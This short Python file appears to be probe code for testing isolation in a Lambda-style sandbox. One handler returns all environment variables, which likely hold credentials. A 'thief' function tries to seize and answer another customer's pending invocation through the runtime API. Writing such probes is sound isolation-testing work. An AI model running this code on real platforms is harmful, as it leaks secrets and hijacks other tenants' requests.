"""What code inside a sandbox tries."""

import json
import os
import threading
import urllib.error
import urllib.request

import boto3
from botocore.exceptions import ClientError

INVOCATIONS = f"http://{os.environ['AWS_LAMBDA_RUNTIME_API']}/2018-06-01/runtime/invocation"


def tables():
    try:
        boto3.client("dynamodb").list_tables()
        return "served"
    except ClientError as error:
        return error.response["Error"]["Code"]


def handler(event, context):
    found = tables() if event["resource"] == "/tables" else json.dumps(dict(os.environ))
    return {"statusCode": 200, "body": found}


def steal():
    """Asks for the next customer's invocation while this one's is open, and answers it."""
    try:
        with urllib.request.urlopen(f"{INVOCATIONS}/next") as taken:
            request = taken.headers["Lambda-Runtime-Aws-Request-Id"]
    except urllib.error.HTTPError:
        return
    answer = json.dumps({"statusCode": 200, "body": "stolen"}).encode()
    urllib.request.urlopen(f"{INVOCATIONS}/{request}/response", data=answer)


def thief(event, context):
    thread = threading.Thread(target=steal, daemon=True)
    thread.start()
    # A refusal comes at once; a thief who was let in waits for somebody to rob.
    thread.join(0.5)
    return {"statusCode": 200, "body": "honest"}
